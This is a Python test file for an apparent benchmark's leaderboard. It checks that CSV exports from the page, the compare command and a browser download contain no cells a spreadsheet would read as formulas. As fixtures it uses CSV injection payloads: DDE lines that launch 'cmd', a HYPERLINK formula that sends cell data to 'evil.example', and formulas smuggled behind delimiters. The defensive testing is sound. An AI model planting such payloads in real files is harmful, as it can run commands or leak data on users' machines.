"""No cell and no head of a CSV is a formula to a spreadsheet, whatever divides its cells."""

import csv
import io

import pytest
from results_factory import cell_spec, metric, record_of, write_cell

from rpo_bench.analysis.board import make_board
from rpo_bench.files.csv_lines import csv_line
from rpo_bench.results.store import read_results
from rpo_bench.site.build import build_leaderboard
from rpo_bench.site.downloads import csv_text

ATTACKS = {
    "call": "=cmd|'/c calc'!A0",
    "plus": "+1+cmd|'/c calc'!A0",
    "minus": "-2+3+cmd|'/c calc'!A0",
    "at": "@SUM(1+9)*cmd",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "feed": "\n=1+1",
    "wide": "＝1+1",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "behind a comma": 'x,=1+1,"',
    "behind a semicolon": "x;=1+1",
    "behind a tab": "x\t=1+1",
    "behind a line": "x\n=1+1",
    "behind a quote": '";=1+1;"',
    "quoted": '"=1+1"',
}
ALL_COLUMNS = """() => {
    const boxes = [...document.querySelectorAll('#columns input')];
    for (const box of boxes) box.checked = true;
    boxes[0].dispatchEvent(new Event('change', { bubbles: true })); }"""
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def formulas(text):
    """The cells that a spreadsheet would take for formulas, whichever way it divides the lines."""
    found = []
    for delimiter in ",;\t":
        lines = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        found += [cell for line in lines for cell in line if cell.startswith(FORMULA) and not _number(cell)]
    return found


def _number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def hostile_results(root, attack):
    """A row whose task, model and method are attacks, and a metric of that name."""
    metrics = {**record_of(cell_spec()).metrics, attack: metric([-1.0, -0.5])}
    write_cell(root, cell_spec("reference", None, task=attack, model=attack))
    write_cell(root, cell_spec(attack, 0.3, task=attack, model=attack), metrics=metrics)
    return root


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_the_page_s_table(tmp_path, attack):
    text = csv_text(make_board(read_results(hostile_results(tmp_path, attack))))
    assert formulas(text) == []
    heads, *rows = csv.reader(io.StringIO(text, newline=""))
    assert len(rows) == 2
    assert all(len(row) == len(heads) for row in rows)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_lines_of_comparisons(attack):
    """``compare --format csv`` writes by the same function; values come back as they were."""
    text = csv_line([attack, 1, None]) + csv_line(["x", attack, -0.5])
    assert formulas(text) == []
    first, second = csv.reader(io.StringIO(text, newline=""))
    assert first[0].replace("'", "") == attack.replace("'", "")
    assert first[1:] == ["1", ""]
    assert second == ["x", first[0], "-0.5"]


@pytest.mark.browser
def test_the_browser_s_export(visit, tmp_path):
    """All attacks at once, as the page saves what it shows; the columns of hostile metrics are chosen."""
    for attack in ATTACKS.values():
        hostile_results(tmp_path / "results", attack)
    build_leaderboard([tmp_path / "results"], tmp_path / "out")
    page = visit((tmp_path / "out" / "index.html").as_uri())
    page.locator("#columns summary").click()
    page.evaluate(ALL_COLUMNS)
    with page.expect_download() as waiting:
        page.get_by_role("button", name="Download the shown rows as CSV").click()
    text = waiting.value.path().read_text(encoding="utf-8")
    heads, *rows = csv.reader(io.StringIO(text, newline=""))
    assert any("HYPERLINK" in head for head in heads)
    assert formulas(text) == []
    assert len(rows) == 2 * len(ATTACKS)
